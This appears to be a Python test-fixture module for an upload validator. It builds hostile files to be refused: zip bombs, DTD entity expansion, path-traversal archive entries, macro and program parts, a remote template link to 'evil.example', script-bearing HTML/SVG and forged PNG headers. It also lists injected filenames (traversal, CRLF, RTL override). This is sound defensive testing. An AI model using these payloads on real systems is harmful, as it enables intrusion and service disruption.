"""Files that nobody should be able to hand in: bombs, masks, programs, broken containers, odd names."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping
from typing import Final

from PIL import Image

from tests.factories import pdf

TYPES: Final = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
BODY: Final = (
    b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'
)
DTD: Final = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b"><!ENTITY c "&a;&a;">]><x>&c;</x>'
LATE: Final = b"<?xml version='1.0'?><!--" + bytes(range(33, 45)) * 6_000 + b"--><!DOCTYPE x []><x/>"
OUTSIDE: Final = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '
    b'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
LINKED: Final = "word/_rels/document.xml.rels"


def docx(extra: Mapping[str, bytes] | None = None, *, body: bytes = BODY, packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A document of Word's kind with these parts added."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", packing) as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr("word/document.xml", body)
        for name, content in (extra or {}).items():
            archive.writestr(name, content)
    return held.getvalue()


def picture(width: int = 8, height: int = 8, form: str = "PNG") -> bytes:
    held = io.BytesIO()
    Image.new("RGB", (width, height), "white").save(held, form)
    return held.getvalue()


def wide_png(width: int, height: int) -> bytes:
    """A few bytes that claim to be a picture of that size."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\x00" * 100)) + chunk(b"IEND", b"")
    )


def locked_zip() -> bytes:
    """A container whose entries say that they are encrypted."""
    data = bytearray(docx())
    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (found := data.find(sign, start)) >= 0:
            data[found + place] |= 1
            start = found + 4
    return bytes(data)


def torn(content: bytes, place: int) -> bytes:
    """The content with a byte turned over."""
    return content[:place] + bytes([content[place] ^ 0xFF]) + content[place + 1 :]


HTML: Final = b"<html><script>alert(1)</script></html>"
MUST_REFUSE: Final[tuple[tuple[str, bytes], ...]] = (
    ("a.html", HTML), ("a.pdf", HTML), ("a.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='1'/>"),
    ("a.png", b"<svg/>"), ("a.pdf", b""), ("a.pdf", b"%PDF-"), ("a.pdf", b"%PDF-1.7 nothing"),
    ("a.pdf", b"\n" + pdf()), ("a.exe", b"MZ" + b"\0" * 99), ("a.docx", pdf()), ("a.pdf", picture()),
    ("a.jpg", picture()), ("a.png", picture(form="JPEG")), ("a.gif", picture(form="GIF")),
    ("a.pdf.html", pdf()), ("a", pdf()), (".pdf", b"x"), ("a.docm", docx()), ("a.xlsx", docx()),
    ("a.zip", docx()), ("bomb.docx", docx({"word/big.xml": b"\0" * 12_000_000})),
    ("bomb.docx", docx(body=b" " * 12_000_000)),
    ("many.docx", docx({f"word/{number}.xml": b"" for number in range(2_100)}, packing=zipfile.ZIP_STORED)),
    ("macro.docx", docx({"word/vbaProject.bin": b"x"})), ("program.docx", docx({"word/run.exe": b"MZ"})),
    ("script.docx", docx({"word/run.js": b"1"})), ("nested.docx", docx({"word/in.zip": docx()})),
    ("up.docx", docx({"../../up.xml": b"1"})), ("root.docx", docx({"/etc/passwd": b"1"})),
    ("up.docx", docx({"..\\..\\up.xml": b"1"})), ("dtd.docx", docx({"word/x.xml": DTD.encode()})),
    ("dtd16.docx", docx({"word/x.xml": DTD.encode("utf-16")})),
    ("late.docx", docx({"word/x.xml": LATE})),
    ("template.docx", docx({LINKED: OUTSIDE % b"attachedTemplate"})),
    ("picture.docx", docx({LINKED: OUTSIDE % b"image"})), ("locked.docx", locked_zip()),
    ("torn.docx", torn(docx(), 60)), ("half.docx", docx()[:200]), ("torn.png", torn(picture(), 45)),
    ("wide.png", wide_png(100_000, 100_000)), ("wide.png", wide_png(8_000, 6_000)),
    ("short.png", picture()[:40]),
)  # fmt: skip
MUST_TAKE: Final[tuple[tuple[str, bytes], ...]] = (
    ("Báo cáo thành tích – Đặng Thị Ánh.pdf", pdf()), ("ĐĐĐ.PDF", pdf()), ("ảnh.png", picture()),
    ("ảnh.jpeg", picture(form="JPEG")), ("Đơn đề nghị.docx", docx()),
    ("liên kết.docx", docx({LINKED: OUTSIDE % b"hyperlink"})),
)  # fmt: skip
NAMES: Final = (
    "../../../etc/passwd.pdf", "C:\\Windows\\a.pdf", "a\x00.pdf", "\"><qq7>.pdf", "a\r\nX-A: 1.pdf",
    "\u202efdp.exe.pdf", "ậ" * 400 + ".pdf", "con.pdf", "\ud800.pdf", ".", "..", "", "a.pdf.", "a.pdf ",
    "';--.pdf", "%2e%2e%2fa.pdf",
)  # fmt: skip
HOSTILE_FILES: Final[tuple[tuple[str, bytes], ...]] = (*MUST_REFUSE, *((name, pdf()) for name in NAMES), *MUST_TAKE[:2])
